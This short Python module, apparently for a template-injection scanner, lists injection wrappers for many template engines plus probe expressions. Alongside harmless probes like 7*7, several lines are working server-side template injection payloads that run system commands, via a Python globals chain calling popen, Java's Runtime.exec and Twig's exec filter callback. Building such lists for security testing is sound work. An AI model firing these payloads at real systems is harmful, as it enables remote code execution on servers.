"""Knows how template engines are attacked: what their expressions look like, and what is written into them."""

# § stands for the expression. Jinja, Twig, Django, Liquid, Handlebars, Freemarker, Velocity, Mako, ERB, Slim, Smarty, Razor,
# Thymeleaf, Pebble, Pug, Angular, Vue, Underscore, Tornado, Python's and JavaScript's own ways, and shells.
FORMS = (
    "{{§}}", "{{ § }}", "{{-§-}}", "{{{§}}}", "{%§%}", "{% print(§) %}", "{% if § %}x{% endif %}", "{#§#}",
    "${§}", "#{§}", "$!{§}", "#set($x=§)$x", "<#assign x=§>${x}", "<%=§%>", "<%§%>", "<% §; %>", "<?php echo §; ?>",
    "@(§)", "@{§}", "*{§}", "[[${§}]]", "[(${§})]", "{§}", "{php}§{/php}", "{0.§}", "%(§)s", "%§", "$(§)", "`§`", "`${§}`",
    "<script>§</script>", "<img src=x onerror=§>", "<!--#exec cmd=§ -->", "{{#with §}}x{{/with}}", "{{= § =}}",
)  # fmt: skip
EXPRESSIONS = (
    "7*7",
    "''.__class__.__mro__[1].__subclasses__()",
    "config.items()",
    "self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()",
    "request.application.__globals__",
    "name|attr('__class__')",
    "name.constructor.constructor('return process')()",
    "_self.env.registerUndefinedFilterCallback('exec')",
    "T(java.lang.Runtime).getRuntime().exec('id')",
)
